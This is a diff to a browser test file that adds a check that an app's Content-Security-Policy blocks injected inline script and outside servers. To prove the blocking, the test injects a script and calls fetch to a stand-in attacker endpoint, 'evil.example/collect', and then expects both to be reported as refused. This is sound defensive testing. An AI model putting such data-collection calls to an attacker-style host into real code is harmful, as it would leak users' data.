@@ -1,7 +1,7 @@
 import { readFileSync, writeFileSync } from "node:fs";
 import path from "node:path";
-import { describe, expect, it } from "vitest";
-import { expectAccessible, expectNoPageErrors, openApp, saveScreenshot } from "./support/browser.ts";
+import { describe, expect, inject, it } from "vitest";
+import { expectAccessible, expectNoPageErrors, openApp, pageErrorsOf, saveScreenshot } from "./support/browser.ts";
 import { demoSummary, shown } from "./support/demo.ts";
 import { journeyLifecycle } from "./support/journey.ts";
 
@@ -99,6 +99,45 @@ describe("Explore: the rounds of the network and a round's projects", () => {
     expect(overflow).toBeLessThanOrEqual(0);
     await expectAccessible(page);
     await saveScreenshot(page, "round-phone");
+  });
+
+  it("runs under its build's Content-Security-Policy, which refuses inline script and servers the build does not name", async () => {
+    const page = await openApp(browser(), `/rounds/${cascadia.address}`);
+    // Under the policy the page reads the chain, verifies documents and shows their logos (blob: and data: URLs).
+    await expect.poll(() => page.locator(".project-row").count()).toBe(approved.length);
+    await expect.poll(() => page.locator(".project-row img.logo").count()).toBe(approved.length);
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+    expect(policy).toBe(
+      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; " +
+        `connect-src ${inject("rpcUrl")} 'self'; object-src 'none'; base-uri 'none'; form-action 'none'`,
+    );
+    // The host's copy, to send as a header: the same policy, and framing forbidden, which only a header can say.
+    const header = await fetch(new URL("/content-security-policy.txt", inject("appUrl")));
+    expect(await header.text()).toBe(`${policy}; frame-ancestors 'none'\n`);
+    // A policy covers only what follows it: every script of the page comes after it.
+    const scriptsAfterPolicy = await page.evaluate(
+      () =>
+        document.querySelectorAll('meta[http-equiv="Content-Security-Policy"] ~ script').length ===
+        document.scripts.length,
+    );
+    expect(scriptsAfterPolicy).toBe(true);
+    expectNoPageErrors(page);
+
+    // What injected code would try is refused, and reported as this suite's journeys would see it.
+    const inlineScriptRan = await page.evaluate(() => {
+      const script = document.createElement("script");
+      script.textContent = "window.inlineScriptRan = true";
+      document.head.append(script);
+      return Reflect.get(window, "inlineScriptRan") === true;
+    });
+    expect(inlineScriptRan).toBe(false);
+    await page.evaluate(() => fetch("https://evil.example/collect").catch(() => undefined));
+    await expect
+      .poll(() => pageErrorsOf(page))
+      .toEqual([
+        "Content-Security-Policy refused inline (script-src-elem)",
+        "Content-Security-Policy refused https://evil.example/collect (connect-src)",
+      ]);
   });
 
   it("shows a document that does not match its content identifier as such, never its content", async () => {
